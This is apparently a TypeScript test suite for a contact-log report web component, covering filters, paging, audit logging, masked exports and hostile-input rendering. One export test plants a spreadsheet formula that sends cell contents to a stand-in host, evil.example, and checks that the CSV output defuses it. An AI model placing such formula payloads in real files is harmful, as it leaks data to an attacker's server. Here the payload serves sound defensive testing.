import { expect, fixture, fixtureCleanup, html } from '@open-wc/testing';
import '../src/define/contact-log-report.js';
import '../src/define/client-alert-dialog.js';
import type { DeskguardAdapter } from '../src/core/adapter.js';
import type { ContactLogReportElement } from '../src/elements/contact-log-report/contact-log-report.js';
import type { ClientAlertDialogElement } from '../src/elements/client-alert-dialog/client-alert-dialog.js';
import { CORE_STAFF, HOSTILE_STRINGS } from '../mocks/index.js';
import { runConformance } from './conformance/conformance.js';
import { caption, filterBy, reportReady, rows, sortOrderings } from './support/report.js';
import { $, $$, button, deepText, until } from './support/dom.js';
import { currentMock, recorded, restAdapter, useMock, written } from './support/mock.js';

type Report = ContactLogReportElement;

async function mount(adapter: DeskguardAdapter, query = '', pageSize = 25): Promise<Report> {
  return fixture<Report>(
    html`<contact-log-report .adapter=${adapter} query=${query} page-size=${pageSize}></contact-log-report>`,
  );
}

const ready = reportReady;

runConformance<Report>({
  tag: 'contact-log-report',
  mount: (adapter) => mount(adapter),
  ready,
  states: [
    { name: 'loading', config: { scenario: 'slow' } },
    { name: 'loaded', config: {}, act: ready },
    { name: 'no logs yet', config: { scenario: 'empty' }, act: ready },
    { name: 'masked, a manager not on the override list', config: { viewer: 'duty-manager' }, act: ready },
    {
      name: 'without the report permission',
      config: { viewer: 'front-desk' },
      act: (el) => until(() => deepText(el).includes('does not include the Contact Logs report'), 'the refusal'),
    },
    {
      name: 'a filter it cannot read',
      config: {},
      act: async (el) => {
        await ready(el);
        await filterBy(el, 'mood:happy');
        await until(() => $(el, '#query-error').textContent!.includes('mood:happy'), 'the problem');
      },
    },
    {
      name: 'one log in full',
      config: {},
      act: async (el) => {
        await ready(el);
        button(el, 'Details').click();
        await until(() => el.shadowRoot!.querySelector('[part~="detail"]'), 'the detail');
      },
    },
    {
      name: 'load failed',
      config: { scenario: 'offline' },
      act: (el) => until(() => el.shadowRoot?.querySelector('[part~="error"]'), 'the error'),
    },
  ],
  hostile: {
    config: {},
    shown: true,
    act: async (el) => {
      await ready(el);
      button(el, 'Details').click();
      await until(() => el.shadowRoot!.querySelector('[part~="detail"]'), 'the detail');
    },
  },
  maskedViewers: [{ viewer: 'duty-manager' }],
  orderings: sortOrderings<Report>(['Answered', 'Client', 'Alert', 'Action', 'Staff']),
});

describe('<contact-log-report>', () => {
  afterEach(() => fixtureCleanup());

  it('finds each log the alert dialog wrote, with its reason and the alert as staff saw it', async () => {
    const mock = await useMock({});
    const desk = CORE_STAFF['front-desk'];
    // Client 6 raises every alert at sign-in: red, yellow, balance and arrivals.
    const dialog = await fixture<ClientAlertDialogElement>(
      html`<client-alert-dialog
        .adapter=${restAdapter({ headers: () => ({ Authorization: `Bearer ${desk.id}` }) })}
      ></client-alert-dialog>`,
    );
    const outcome = dialog.open({ clientId: 'client-6', context: 'sign-in' });
    const fields = await until(() => {
      const found = $$<HTMLTextAreaElement>(dialog, 'dialog[open] textarea');
      return found.length ? found : undefined;
    }, 'the reasons');
    const reasons = ['Red: checked with the client.', 'Balance: paying today.', 'Arrivals: manager agreed.', 'Yellow.'];
    fields.forEach((field, i) => {
      field.value = reasons[i]!;
      field.dispatchEvent(new Event('input', { bubbles: true }));
    });
    button(dialog, 'Sign in').click();
    const result = await outcome;
    expect(result.status).to.equal('signed-in');
    const logs = written(mock.storage);
    expect(logs, 'red and the two thresholds keep logs').to.have.length(3);
    const client = mock.storage.data.clients.find((c) => c.id === 'client-6')!;
    dialog.remove();

    const report = await mount(restAdapter(), `type:client-alert staff:"${desk.name}" client:"${client.name}"`);
    await ready(report);
    const before = mock.storage.data.contactLogs.filter(
      (l) => l.id.startsWith('seed-') && l.staff.id === desk.id && l.clientId === client.id,
    );
    const shown = rows(report);
    expect(caption(report)).to.contain(`of ${before.length + 3}`);
    expect(shown).to.have.length(before.length + 3);
    for (const log of logs) {
      const row = shown.find((r) => r.includes(log.reason!));
      expect(row, `the log for ${log.subtype}`).to.be.a('string');
      expect(row)
        .to.contain(desk.name)
        .and.contain(log.action === 'ignore' ? 'Ignored' : 'Signed in');
      expect(row).to.contain('Sign-in');
      if (log.alert.kind === 'red') expect(row).to.contain(client.redAlert!);
    }
    // Each log once, whatever the retries: the ids the dialog reported are the ones listed.
    expect(result.contactLogIds.sort()).to.deep.equal(logs.map((l) => l.id).sort());
  });

  it('reads a typed query into chips and backend parameters, and a removed chip widens the filter', async () => {
    await useMock({});
    const element = await mount(restAdapter());
    await ready(element);
    const all = Number(/of (\d+)/.exec(caption(element))![1]);
    const changes: string[] = [];
    element.addEventListener('contact-log-query-change', (e) => changes.push(e.detail.query));
    await filterBy(element, 'type:client-alert   action:signed-in  staff:"Elena Sokolova"');
    await ready(element);
    expect(changes).to.deep.equal(['type:client-alert action:signed-in staff:"Elena Sokolova"']);
    expect(element.getAttribute('query'), 'kept where the host can persist it').to.equal(changes[0]);
    const chips = $$(element, '[part~="chip"]').map((c) => c.getAttribute('aria-label'));
    // In words, with the syntax kept for whoever hovers.
    expect(chips).to.deep.equal([
      'Remove filter: Client alerts',
      'Remove filter: Signed in',
      'Remove filter: Staff: Elena Sokolova',
    ]);
    expect($$(element, '[part~="chip"]').map((c) => c.title)).to.deep.equal([
      'type:client-alert',
      'action:signed-in',
      'staff:"Elena Sokolova"',
    ]);
    const served = (await currentMock()).served.at(-1)!;
    expect(served.path).to.contain('action=sign-in').and.contain('staff=Elena+Sokolova');
    for (const row of rows(element)) expect(row).to.contain('Elena Sokolova').and.contain('Signed in');
    const narrowed = Number(/of (\d+)/.exec(caption(element))?.[1] ?? 0);
    expect(narrowed).to.be.greaterThan(0).and.lessThan(all);

    $$<HTMLButtonElement>(element, '[part~="chip"]')[2]!.click();
    await element.updateComplete;
    await ready(element);
    expect(element.query).to.equal('type:client-alert action:signed-in');
    expect(Number(/of (\d+)/.exec(caption(element))![1])).to.be.greaterThan(narrowed);
  });

  it('keeps a filter it cannot read in the box, says what is wrong and asks the backend nothing', async () => {
    await useMock({});
    const element = await mount(restAdapter());
    await ready(element);
    const before = (await currentMock()).served.length;
    await filterBy(element, 'staff:"Tom Okafor" created:>=2026-13-45 hello');
    const input = $<HTMLInputElement>(element, '#query');
    expect(input.value).to.equal('staff:"Tom Okafor" created:>=2026-13-45 hello');
    expect(input.getAttribute('aria-invalid')).to.equal('true');
    expect($(element, '#query-error').textContent).to.contain('created:>=2026-13-45').and.contain('hello');
    expect((await currentMock()).served.length).to.equal(before);
    expect(element.query, 'the applied filter is unchanged').to.equal('');
  });

  it('filters by answered date as the viewer’s days', async () => {
    const mock = await useMock({});
    const day = mock.storage.data.contactLogs[0]!.at.slice(0, 10);
    const element = await mount(restAdapter(), `created:${day}`);
    await ready(element);
    const start = new Date(`${day}T00:00:00`).getTime();
    const expected = mock.storage.data.contactLogs.filter((l) => {
      const t = Date.parse(l.at);
      return t >= start && t < start + 86_400_000;
    }).length;
    expect(Number(/of (\d+)/.exec(caption(element))![1])).to.equal(expected);
  });

  it('pages by the backend’s cursors, with the count', async () => {
    await useMock({});
    const element = await mount(restAdapter(), '', 10);
    await ready(element);
    expect(caption(element)).to.equal('Contact logs 1–10 of 30');
    const first = rows(element)[0];
    button(element, 'Next page').click();
    await until(() => caption(element) === 'Contact logs 11–20 of 30', 'the second page');
    expect(rows(element)[0]).not.to.equal(first);
    button(element, 'Previous page').click();
    await until(() => caption(element) === 'Contact logs 1–10 of 30', 'the first page again');
    expect(rows(element)[0]).to.equal(first);
    expect(button(element, 'Previous page').disabled).to.equal(true);
  });

  it('shows what a row leaves out under it, says the log cannot be edited, and folds it away again', async () => {
    const mock = await useMock({});
    const element = await mount(restAdapter());
    await ready(element);
    const details = $$<HTMLButtonElement>(element, 'tbody button')[0]!;
    expect(details.getAttribute('aria-expanded')).to.equal('false');
    details.click();
    const detail = await until(() => $$(element, '[part~="detail"]')[0], 'the detail');
    expect(details.getAttribute('aria-expanded')).to.equal('true');
    expect(details.getAttribute('aria-controls')).to.equal(detail.id);
    const log = mock.storage.data.contactLogs.slice().sort((a, b) => (a.at < b.at ? 1 : -1))[0]!;
    const client = mock.storage.data.clients.find((c) => c.id === log.clientId)!;
    expect(detail.textContent).to.contain('nobody can edit or delete it');
    expect(detail.textContent, 'the admin sees the email').to.contain(client.email ?? '—');
    // Times are held together with no-break spaces: compare the words.
    expect(detail.textContent!.replace(/\u00a0/g, ' ')).to.contain(
      new Intl.DateTimeFormat('en', { dateStyle: 'medium', timeStyle: 'short' }).format(new Date(log.shownAt)),
    );
    details.click();
    await element.updateComplete;
    expect($$(element, '[part~="detail"]')).to.have.length(0);
    expect(details.getAttribute('aria-expanded')).to.equal('false');
  });

  it('says there is nothing to show, with a way to clear the filters', async () => {
    await useMock({});
    const element = await mount(restAdapter(), 'client:"Nobody Here"');
    await ready(element);
    expect(deepText(element)).to.contain('No contact logs match these filters.');
    button(element, 'Clear filters').click();
    await until(() => rows(element).length > 0, 'every log again');
    expect(element.query).to.equal('');
  });

  it('exports the current filter through the backend, and says so', async () => {
    await useMock({});
    const element = await mount(restAdapter(), 'subtype:red');
    await ready(element);
    button(element, 'Export CSV').click();
    await until(() => /Exported \d+ logs to contact-logs-.*\.csv/.test(deepText(element)), 'the export');
    const served = (await currentMock()).served.at(-1)!;
    expect(served.path).to.contain('/contact-logs/export').and.contain('subtype=red').and.contain('format=csv');
  });

  it('records each opening, filter and export of the report as an audit event with the filters used', async () => {
    const mock = await useMock({});
    const element = await mount(restAdapter(), 'subtype:red', 10);
    await ready(element);
    button(element, 'Next page').click();
    await until(() => caption(element).startsWith('Contact logs 11'), 'the second page');
    await filterBy(element, 'subtype:arrivals');
    await ready(element);
    button(element, 'Export CSV').click();
    await until(() => deepText(element).includes('Exported'), 'the export');
    const events = recorded(mock.storage).map((e) => {
      const { fingerprint: _fingerprint, ...metadata } = e.metadata ?? {};
      return [e.action, e.actor.id, metadata];
    });
    expect(events, 'a next page is not another view').to.deep.equal([
      [
        'report.viewed',
        CORE_STAFF.admin.id,
        { report: 'contact-logs', filters: { subtype: 'red', sort: 'at', direction: 'desc' }, masked: false },
      ],
      [
        'report.viewed',
        CORE_STAFF.admin.id,
        { report: 'contact-logs', filters: { subtype: 'arrivals', sort: 'at', direction: 'desc' }, masked: false },
      ],
      [
        'report.exported',
        CORE_STAFF.admin.id,
        {
          report: 'contact-logs',
          filters: { subtype: 'arrivals', sort: 'at', direction: 'desc' },
          masked: false,
          format: 'csv',
          rows: mock.storage.data.contactLogs.filter((l) => l.subtype === 'arrivals').length,
        },
      ],
    ]);
  });

  it('exports with masking for a masked viewer and cells safe to open in a spreadsheet', async () => {
    const mock = await useMock({ viewer: 'duty-manager' });
    const formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")';
    mock.storage.data.contactLogs[0]!.reason = formula;
    mock.storage.data.contactLogs[1]!.reason = '@SUM(1+1)';
    const adapter = restAdapter();
    const csv = await adapter.exportContactLogs({}, 'csv');
    const json = await adapter.exportContactLogs({}, 'json');
    expect(csv.rows).to.equal(30);
    for (const raw of mock.rawContacts()) {
      expect(csv.content, `raw ${raw} in the CSV`).not.to.contain(raw);
      expect(json.content, `raw ${raw} in the JSON`).not.to.contain(raw);
    }
    expect(csv.content).to.contain(`"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"`);
    expect(csv.content).to.contain(`'@SUM(1+1)`);
    for (const line of csv.content.split('\r\n'))
      for (const cell of line.split(',')) expect(cell, line).not.to.match(/^"?[=+@]/);
  });

  it('renders hostile reasons and alert text as text', async () => {
    await useMock({ scenario: 'hostile' });
    const element = await mount(restAdapter());
    await ready(element);
    expect(element.shadowRoot!.querySelector('img, script, iframe')).to.equal(null);
    expect(deepText(element)).to.contain(HOSTILE_STRINGS[0]!.slice(0, 12));
  });

  it('tells a viewer without the report why, and offers a reload', async () => {
    await useMock({ viewer: 'front-desk' });
    const element = await mount(restAdapter());
    await until(() => deepText(element).includes('does not include the Contact Logs report'), 'the refusal');
    expect($$(element, 'table')).to.have.length(0);
    // A decision of the business, drawn as every element draws one: a notice, not an error.
    expect($$(element, '[part~="error"]'), 'no error region').to.have.length(0);
    expect($(element, '[part~="notice"]').textContent).to.contain('does not include the Contact Logs report');
    expect(button(element, 'Reload')).to.be.instanceOf(HTMLButtonElement);
  });

  it('starts again from the first page when the host sets a new filter', async () => {
    await useMock({});
    const element = await mount(restAdapter(), '', 10);
    await ready(element);
    button(element, 'Next page').click();
    await until(() => caption(element).startsWith('Contact logs 11'), 'the second page');
    element.query = 'subtype:arrivals';
    await until(
      () => /^Contact logs 1–\d+ of \d+$/.test(caption(element)) && !caption(element).endsWith('of 30'),
      'arrivals only',
    );
    for (const row of rows(element)) expect(row).to.contain('Too many arrivals');
  });
});
